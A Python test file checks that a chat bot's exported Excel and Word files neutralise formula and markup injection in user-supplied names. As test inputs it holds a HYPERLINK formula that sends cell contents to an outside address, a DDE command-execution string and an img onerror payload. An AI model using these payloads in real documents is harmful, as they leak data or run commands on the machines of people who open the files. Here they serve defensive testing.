"""Every file that a command hands out, with formulas and markup for names: Excel and Word find nothing to run in it."""

from __future__ import annotations

import ast
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import docx
import pytest
from openpyxl import load_workbook

import handlers.ledger.workbook as workbook
from bot.commands import Command
from bot.messages import File
from bot.understanding.reader import Reading
from bot.understanding.values import Name, Text, Word
from handlers.ledger.workbook import DANGEROUS, Column, Table, xlsx
from models import Branch, Member
from tests.chat import Chat
from tests.every_command import ordinary, understanding
from tests.test_every_command import COMMANDS, WHO, everybody

FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1)'
NAMES = ("=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-1+1", "＝1", "\t=1", '<img src=x onerror="x">', "&amp;\x01\ufffe")
WRITERS = {"openpyxl": "Workbook", "csv": "writer", "xlsxwriter": "Workbook"}
PROJECT = Path(__file__).parents[1]


@pytest.mark.parametrize("text", [*NAMES, FORMULA])
def test_a_cell_is_text_whatever_it_begins_with(text: str) -> None:
    _is_harmless(File("a.xlsx", workbook.MEDIA_TYPE, xlsx([Table("表", [Column(text)], [[text]])])))


async def test_nothing_runs_in_what_commands_hand_out(chat: Chat) -> None:
    await everybody(chat)
    await Branch.all().update(name=FORMULA)
    for member, name in zip(await Member.all().order_by("id"), NAMES, strict=False):
        await Member.filter(id=member.id).update(name=name, student_no=f"={member.id}")
    reader = understanding(chat)
    for command in (*COMMANDS.values(), *COMMANDS.values()):
        for whole in (True, False):
            reader.told = Reading(command.name, _hostile(command, whole=whole))
            await chat.hear(chat.incoming(WHO[command.role], FORMULA, private=True))
            reader.told = None
            await chat.hear(chat.incoming(WHO[command.role], "确认", private=True))
    files = [said.file for said in chat.wire.sent if said.file]
    assert any(file.name.endswith(".xlsx") for file in files)
    for file in files:
        _is_harmless(file)
    assert any(FORMULA in cell or NAMES[0] in cell for file in files for cell in _texts(file))


def _hostile(command: Command, *, whole: bool) -> dict[str, object]:
    hostile: dict[type, object] = {Text: Text(FORMULA), Word: Word(FORMULA), Name: Name(NAMES[1])}
    return {
        slot.name: hostile.get(slot.type, ordinary(command, whole=True)[slot.name])
        for slot in command.form.slots
        if whole or slot.required
    }


def _is_harmless(file: File) -> None:
    assert "/" not in file.name and "\\" not in file.name
    if file.name.endswith(".xlsx"):
        for sheet in load_workbook(io.BytesIO(file.data)).worksheets:
            for cell in (cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)):
                assert cell.data_type == "s", cell.value
                assert cell.quotePrefix or not cell.value.startswith(DANGEROUS), cell.value
    with zipfile.ZipFile(io.BytesIO(file.data)) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    assert not any(b'TargetMode="External"' in data or b"<f>" in data for data in parts.values())


def _texts(file: File) -> Iterator[str]:
    if file.name.endswith(".xlsx"):
        yield from _cells(file.data)
    elif file.name.endswith(".docx"):
        document = docx.Document(io.BytesIO(file.data))
        yield from (paragraph.text for paragraph in document.paragraphs)


def _cells(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [str(cell.value) for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("hidden", ["\x01", "\x00\x1f", "\ufffe"])
def test_what_looks_like_a_formula_once_it_is_cleaned_is_text(hidden: str) -> None:
    book = load_workbook(io.BytesIO(xlsx([Table("表", (Column("栏", 10),), [[f"{hidden}=1+1"]])])))
    cell = book.worksheets[0].cell(2, 1)
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=1+1", "s", True)


def test_tables_are_written_in_one_place() -> None:
    """A second way to write a table would be one that has to think of formulas again."""
    writing = {
        file.relative_to(PROJECT).as_posix()
        for folder in ("bot", "handlers", "models")
        for file in (PROJECT / folder).rglob("*.py")
        for node in ast.walk(ast.parse(file.read_text("utf-8")))
        if (isinstance(node, ast.ImportFrom) and WRITERS.get(node.module or "") in {one.name for one in node.names})
        or (isinstance(node, ast.Attribute) and WRITERS.get(getattr(node.value, "id", "")) == node.attr)
    }
    assert writing == {"handlers/ledger/workbook.py"}
